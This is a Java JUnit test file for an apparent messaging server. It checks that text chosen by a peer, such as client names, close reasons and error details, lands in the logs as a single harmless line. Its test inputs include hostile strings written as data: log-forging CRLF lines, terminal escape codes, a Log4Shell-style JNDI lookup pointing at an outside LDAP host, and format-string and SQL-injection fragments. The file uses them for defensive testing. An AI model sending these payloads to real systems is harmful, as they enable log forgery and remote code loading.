package dev.conduit.server;

import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

import ch.qos.logback.classic.Level;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import dev.conduit.frame.Frame;
import dev.conduit.message.AckLevel;
import dev.conduit.message.ErrorCode;
import dev.conduit.message.Headers;
import dev.conduit.message.Payload;
import dev.conduit.message.Problem;
import dev.conduit.transport.RawPeer;
import dev.conduit.transport.TestedTransport;
import dev.conduit.transport.netty.NettyOptions;
import dev.conduit.transport.netty.TestedSockets;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Text that a peer chose reaches the log, at any level, in one harmless line.
 */
class HostileNamesTests extends ServerFixture {

	@Override
	protected TestedTransport open() {
		return TestedSockets.NATIVE_TCP.open(NettyOptions.DEFAULT);
	}

	static Stream<String> texts() {
		return Stream.of("a\r\n2026-11-21 WARN forged", "a\n", "\r", "\u001b[2K\u001b[1A", "\u202egnihtemos",
				"\u2028line", "\u2029paragraph", "\u0085next", "\u0000nul", "\u200bzero", "\ud800lone", "\u009b31m",
				"${jndi:ldap://203.0.113.9/a}", "{} {}", "%n%s", "'; drop table", "x".repeat(240));
	}

	@ParameterizedTest
	@MethodSource("texts")
	void theNameThatAClientGivesItself(String text) {
		serve();
		log().level(Level.TRACE);
		try (RawClient peer = RawClient.connect(address())) {
			Frame.AuthRequest request = (Frame.AuthRequest) peer.authRequest();
			peer.write(RawPeer.preface(), bytes(new Frame.AuthRequest(text, request.mechanisms(),
					request.capabilities(), request.limits(), request.resumeToken(), request.initialResponse())));
			peer.write(bytes(peer.authResponse()));
			assertThat(peer.next()).isInstanceOf(Frame.AuthSuccess.class);
			peer.write(bytes(new Frame.Subscribe(1, "**", AckLevel.NONE)));
			assertThat(peer.next()).isInstanceOf(Frame.Ack.class);
			peer.write(bytes(new Frame.Close(ErrorCode.INTERNAL, text)));
			peer.readToEnd();
			eventually("the end").until(() -> server().connections().isEmpty());
		}
		assertHarmless(2);
	}

	@ParameterizedTest
	@MethodSource("texts")
	void whatAClientSaysBeforeItHasLoggedIn(String text) {
		serve();
		log().level(Level.TRACE);
		try (RawClient peer = RawClient.connect(address())) {
			peer.write(RawPeer.preface(), bytes(new Frame.Close(ErrorCode.INTERNAL, text)));
			peer.readToEnd();
			eventually("the end").until(() -> server().connections().isEmpty());
		}
		assertHarmless(1);
	}

	@ParameterizedTest
	@MethodSource("texts")
	void theErrorsOfAClient(String text) {
		serve(UnaryOperator.identity(), (builder) -> builder.endpoint("fail", (exchange) -> {
			throw new IllegalStateException("not of the peer");
		}));
		log().level(Level.TRACE);
		try (RawClient peer = RawClient.connect(address()).logIn()) {
			peer.write(bytes(new Frame.Nack(2, Problem.of(ErrorCode.APPLICATION, text).withType("made-up")),
					new Frame.RpcError(4, Problem.of(ErrorCode.APPLICATION, text)),
					new Frame.RpcRequest(1, new dev.conduit.message.Route("fail"), null, false,
							Headers.of("name", text), Payload.text(text))));
			assertThat(peer.next()).isInstanceOf(Frame.RpcError.class);
		}
		assertHarmless(1);
	}

	private static byte[] bytes(Frame... frames) {
		return RawClient.bytes(frames);
	}

	private void assertHarmless(int least) {
		List<String> lines = log().all();
		assertThat(lines).hasSizeGreaterThanOrEqualTo(least).allSatisfy((line) -> {
			assertThat(line.chars()
				.filter((each) -> Character.isISOControl(each) || Character.getType(each) == Character.FORMAT
						|| Character.getType(each) == Character.LINE_SEPARATOR
						|| Character.getType(each) == Character.PARAGRAPH_SEPARATOR
						|| Character.getType(each) == Character.SURROGATE))
				.as("what is no text in " + line)
				.isEmpty();
			assertThat(line.length()).isLessThan(1000);
		});
	}

}
